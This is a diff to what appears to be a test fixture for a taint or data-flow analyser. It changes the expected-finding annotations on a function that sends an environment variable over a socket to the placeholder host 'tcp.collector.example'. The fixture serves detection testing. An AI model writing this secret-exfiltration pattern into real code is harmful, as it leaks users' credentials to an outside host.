@@ -26,7 +26,7 @@ def connect_to():
 def connected():
     s = socket.socket()  #~ ok
     s.connect(("tcp.collector.example", 443))  #~ endpoint("tcp.collector.example")
-    s.send(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f3, sink(egress.socket) f3, finding(traced) f3, capability(NETWORK)
+    s.send(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f3, sink(egress.socket) f3, finding(traced) f3
 
 
 def datagram():
